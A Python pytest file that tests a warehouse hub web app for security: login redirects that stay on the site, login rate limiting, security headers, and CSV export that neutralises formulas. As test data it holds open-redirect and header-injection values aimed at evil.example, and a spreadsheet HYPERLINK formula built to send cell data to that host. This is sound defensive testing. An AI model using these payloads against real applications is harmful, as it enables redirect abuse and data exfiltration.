"""The hub's web app tried as an attacker on the warehouse LAN would, over real HTTP:
redirects after login stay on the site, parallel password guesses cannot outrun the limit,
and every page carries the headers that keep scripts, frames and referrers in check."""

import contextlib
import csv
import http.cookiejar
import io
import threading
import urllib.error
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import pytest
from waitress.server import create_server

from hub.changes import ChangeFeed
from hub.web import close_app, create_app
from tests.webapp import PASSWORD, TOKEN, TOPICS, csrf_of

pytestmark = pytest.mark.hub


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


class Browser:
    """One visitor: its own cookies, never following redirects (the tests read them)."""

    def __init__(self, base: str) -> None:
        self.base = base
        jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(jar), _NoRedirect()
        )

    def request(self, path: str, form: dict | None = None) -> tuple[int, dict, str]:
        data = urllib.parse.urlencode(form).encode() if form is not None else None
        try:
            with self.opener.open(self.base + path, data=data, timeout=60) as response:
                return response.status, dict(response.headers), response.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, dict(error.headers), error.read().decode()

    def login_form(self, name: str, password: str, next_url: str | None = None) -> dict:
        _, _, html = self.request("/login")
        form = {"username": name, "password": password, "csrf_token": csrf_of(html)}
        if next_url is not None:
            form["next"] = next_url
        return form


@pytest.fixture
def server(ledger):
    app = create_app(ledger.path, TOPICS, [TOKEN], changes=ChangeFeed(), data_dir=ledger.dir)
    server = create_server(app, host="127.0.0.1", port=0, threads=8)

    def serve() -> None:
        # close() below pulls the socket out from under the server's select().
        with contextlib.suppress(OSError):
            server.run()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.effective_port}"
    server.close()
    thread.join(10)
    close_app(app)


@pytest.mark.parametrize("target", ["/%09/evil.example/", "/%0A/evil.example/",
                                    "/%0d%0aSet-Cookie:x=1", "//evil.example/",
                                    "/\\evil.example/", "https://evil.example/"])  # fmt: skip
def test_login_sends_back_to_this_site_only(server, ledger, target):
    ledger.user("ann", "viewer")
    visitor = Browser(server)
    form = visitor.login_form("ann", PASSWORD, urllib.parse.unquote(target))
    status, headers, _ = visitor.request("/login", form)
    assert (status, headers["Location"]) == (302, "/")
    status, _, page = visitor.request("/login?next=" + target)
    assert status == 200 and "evil.example" not in page


def test_login_keeps_a_same_site_path_with_its_query(server, ledger):
    ledger.user("ann", "viewer")
    visitor = Browser(server)
    status, headers, _ = visitor.request(
        "/login", visitor.login_form("ann", PASSWORD, "/stock?q=MUG")
    )
    assert (status, headers["Location"]) == (302, "/stock?q=MUG")


def test_parallel_wrong_passwords_get_no_more_checks_than_the_limit(server, ledger):
    ledger.user("ann", "viewer")
    visitors = [Browser(server) for _ in range(30)]
    forms = [v.login_form("ann", f"guess-{i}") for i, v in enumerate(visitors)]
    start = threading.Barrier(len(visitors))

    def guess(pair):
        visitor, form = pair
        start.wait()
        return visitor.request("/login", form)[0]

    with ThreadPoolExecutor(len(visitors)) as pool:
        statuses = list(pool.map(guess, zip(visitors, forms, strict=True)))
    assert sorted(set(statuses)) == [401, 429]
    assert statuses.count(401) == 5  # LoginLimit.per_user: the rest were never checked
    # The right password is refused too, until the window has passed.
    again = Browser(server)
    assert again.request("/login", again.login_form("ann", PASSWORD))[0] == 429


def test_a_right_password_does_not_count_against_the_address(server, ledger):
    ledger.user("ann", "viewer")
    for _ in range(25):  # more than LoginLimit.per_address
        visitor = Browser(server)
        assert visitor.request("/login", visitor.login_form("ann", PASSWORD))[0] == 302


@pytest.mark.parametrize("path", ["/login", "/", "/stock", "/api/stock", "/healthz",
                                  "/static/live.js", "/no-such-page"])  # fmt: skip
def test_every_response_carries_the_security_headers(server, ledger, path):
    ledger.user("ann", "viewer")
    visitor = Browser(server)
    visitor.request("/login", visitor.login_form("ann", PASSWORD))
    _, headers, _ = visitor.request(path)
    policy = headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in headers  # plain HTTP: would be ignored anyway


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("kind, row, hostile", [
    ("suppliers", {"supplier": "acme", "name": HOSTILE}, HOSTILE),
    # A zone is [A-Za-z0-9._-]: still enough for a spreadsheet to compute -A1-B1.
    ("locations", {"code": "A-01", "zone": "-A1-B1"}, "-A1-B1"),
    ("products", {"sku": "MUG", "name": HOSTILE}, HOSTILE),
])  # fmt: skip
def test_exported_csv_cells_never_run_as_formulas_and_import_back_unchanged(
    server, kind, row, hostile
):
    columns = ",".join(row)
    values = ",".join('"' + v.replace('"', '""') + '"' for v in row.values())
    upload = f"{columns}\n{values}\n".encode()
    bearer = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "text/csv"}
    put = urllib.request.Request(f"{server}/api/{kind}.csv", data=upload, headers=bearer,
                                 method="POST")  # fmt: skip
    with urllib.request.urlopen(put, timeout=30) as response:
        assert response.status in (200, 201)
    get = urllib.request.Request(f"{server}/api/{kind}.csv", headers=bearer)
    with urllib.request.urlopen(get, timeout=30) as response:
        exported = response.read().decode()
    cells = [cell for line in csv.reader(io.StringIO(exported)) for cell in line]
    assert "'" + hostile in cells and hostile not in cells
    again = urllib.request.Request(f"{server}/api/{kind}.csv", data=exported.encode(),
                                   headers=bearer, method="POST")  # fmt: skip
    with urllib.request.urlopen(again, timeout=30) as response:
        assert response.status in (200, 201)
    with urllib.request.urlopen(get, timeout=30) as response:
        assert response.read().decode() == exported  # the apostrophe is not doubled
